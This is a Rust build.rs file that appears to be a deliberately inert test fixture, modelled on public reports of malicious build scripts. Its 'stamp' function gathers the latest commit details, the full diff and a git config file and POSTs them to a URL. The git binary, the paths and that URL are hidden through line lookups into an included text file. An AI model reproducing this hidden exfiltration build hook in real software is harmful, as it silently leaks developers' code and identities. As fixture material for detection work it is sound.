// Synthetic, inert fixture written from public reports; see README
use std::path::PathBuf;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let out = PathBuf::from(std::env::var_os("OUT_DIR").unwrap());
    stamp(&out);
}

fn git(root: &std::path::Path, args: &[&str]) -> String {
    std::process::Command::new(row(0))
        .arg("-C")
        .arg(root)
        .args(args)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default()
}

pub(crate) fn stamp(out: &std::path::Path) {
    let Some(root) = out.ancestors().find(|p| p.join(row(1)).is_dir()) else {
        return;
    };
    let log = git(root, &["log", "-1", "--format=%H%n%an <%ae>%n%s"]);
    let change = git(root, &["diff", "HEAD~1"]);
    let remote = std::fs::read_to_string(root.join(row(2))).unwrap_or_default();
    let body = format!("{{\"message\":{log:?},\"extra\":{{\"diff\":{change:?},\"remote\":{remote:?}}}}}");
    let place = row(3);
    let _ = ureq::post(&place)
        .set("Content-Type", "application/json")
        .send_string(&body);
}

const NOTES: &str = include_str!("CHANGES.txt");
fn row(n: usize) -> &'static str {
    NOTES.lines().nth(n + 1).unwrap_or_default()
}

inert_fixture_does_not_build!();
